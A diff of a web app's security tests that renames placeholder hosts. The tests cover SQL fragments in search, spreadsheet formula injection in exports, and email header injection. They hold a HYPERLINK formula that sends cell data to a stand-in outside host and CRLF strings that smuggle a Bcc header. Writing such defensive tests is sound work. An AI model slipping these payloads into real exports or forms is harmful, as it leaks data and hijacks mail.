@@ -82,7 +82,7 @@ test('a search for pieces of SQL finds the words, or nothing', async () => {
   expect(await db.select().from(bookings)).toEqual(before);
 });
 
-const FORMULA = '=HYPERLINK("https://elsewhere.example?"&A1,"x")';
+const FORMULA = '=HYPERLINK("https://other.example?"&A1,"x")';
 test('no export contains a formula from user input', async () => {
   await db.insert(contactMessages).values({
     name: FORMULA,
@@ -125,7 +125,7 @@ test('no export contains a formula from user input', async () => {
 });
 
 test('what a guest types adds no line to a mail’s head, on its way to the provider', async () => {
-  const name = 'Eve\r\nBcc: all@elsewhere.example\r\n\r\nBody';
+  const name = 'Eve\r\nBcc: all@other.example\r\n\r\nBody';
   await aTransferRequest({ contact: { name: 'Eve', email: 'eve@example.com' }, note: name });
   const request = (contact: object) =>
     postJson('/api/trips/1/requests', {
@@ -166,7 +166,7 @@ test('what a guest types adds no line to a mail’s head, on its way to the prov
   expect(heads.length).toBeGreaterThan(2);
   for (const head of heads) expect(JSON.stringify(head)).not.toMatch(/\\r|\\n|\\u2028/);
   for (const email of [
-    'eve@example.com\r\nBcc: x@elsewhere.example',
+    'eve@example.com\r\nBcc: x@other.example',
     'a@b.example,c@d.example',
     '"a b"@example.com',
   ]) {
@@ -174,7 +174,7 @@ test('what a guest types adds no line to a mail’s head, on its way to the prov
     expect(
       [
         response.status,
-        (await db.select().from(subscribers)).some((one) => /elsewhere|,/.test(one.email)),
+        (await db.select().from(subscribers)).some((one) => /other\.example|,/.test(one.email)),
       ],
       email,
     ).toEqual([422, false]);
